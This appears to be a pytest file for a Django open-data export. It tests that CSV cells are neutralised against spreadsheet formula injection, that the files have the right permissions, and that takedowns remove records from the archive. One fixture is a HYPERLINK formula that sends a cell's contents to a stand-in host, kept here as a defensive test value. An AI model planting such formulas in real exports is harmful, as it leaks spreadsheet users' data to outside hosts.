"""The files of the open-data dump: safe to open in a spreadsheet, readable by the web server."""

import csv
import io
import json
import stat
import zipfile

import pytest
from django.core.management import call_command

from catalogue.sheets.cells import neutralise_formula
from opendata import dumps

from .factories import ActorFactory, ExampleFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://exemple.invalid/?"&A1;"Cliquez")'


@pytest.fixture
def dumped(settings, tmp_path):
    settings.OPEN_DATA_DIR = tmp_path
    actor = ActorFactory(name="@dirigeant", website="")
    ExampleFactory(
        title=FORMULA, summary="+33 1 23 45 67 89", description="-5 % de déchets", partners=[actor]
    )
    call_command("export_open_data", stdout=io.StringIO())
    return tmp_path


def csv_rows(archive, name):
    return list(csv.DictReader(io.StringIO(archive.read(f"{name}.csv").decode("utf-8"))))


def test_dump_csv_neutralises_formulas_as_the_exports_do(dumped):
    with zipfile.ZipFile(dumped / dumps.ARCHIVE_NAME) as archive:
        (example,) = csv_rows(archive, "exemples")
        (actor,) = csv_rows(archive, "acteurs")
        as_json = json.loads(archive.read(dumps.JSON_NAME))
    assert example["titre"] == "'" + FORMULA == neutralise_formula(FORMULA)
    assert example["resume"] == "'+33 1 23 45 67 89"
    assert example["description"] == "'-5 % de déchets"
    assert actor["nom"] == "'@dirigeant"
    assert example["annee_debut"].isdigit()  # numbers stay numbers
    # JSON is not a spreadsheet: the text as written.
    assert as_json[0]["titre"] == FORMULA


def test_dump_files_are_readable_by_the_web_server(dumped):
    # docs/deployment.md: nginx may serve the archive itself (alias), as another user.
    for name in (dumps.ARCHIVE_NAME, dumps.DESCRIPTOR_NAME):
        assert stat.S_IMODE((dumped / name).stat().st_mode) == 0o644, name


@pytest.mark.parametrize("takedown", ["brouillon", "archive", "supprimé"])
def test_an_example_taken_down_leaves_the_archive_at_once_and_the_worker_writes_it_again(
    settings, tmp_path, curator, django_capture_on_commit_callbacks, takedown
):
    from catalogue import services
    from catalogue.models import Example

    from .test_export_jobs import run_worker

    settings.OPEN_DATA_DIR = tmp_path
    ExampleFactory(title="Verger partagé")
    gone = ExampleFactory(title="Retiré demain")
    call_command("export_open_data", stdout=io.StringIO())
    with django_capture_on_commit_callbacks(execute=True):
        examples = Example.objects.filter(pk=gone.pk)
        if takedown == "supprimé":
            services.delete_examples(examples=examples, user=curator)
        else:
            services.set_status(examples=examples, user=curator, status=takedown)
    assert not (tmp_path / dumps.ARCHIVE_NAME).exists()
    assert dumps.latest() is None
    run_worker()
    with zipfile.ZipFile(tmp_path / dumps.ARCHIVE_NAME) as archive:
        titles = {row["titre"] for row in csv_rows(archive, "exemples")}
    assert titles == {"Verger partagé"}


def test_an_edit_that_takes_nothing_down_keeps_the_archive(
    settings, tmp_path, curator, django_capture_on_commit_callbacks
):
    from catalogue import services

    settings.OPEN_DATA_DIR = tmp_path
    example = ExampleFactory(title="Verger partagé")
    call_command("export_open_data", stdout=io.StringIO())
    with django_capture_on_commit_callbacks(execute=True):
        services.mark_verified(examples=[example], user=curator)
    assert (tmp_path / dumps.ARCHIVE_NAME).exists()
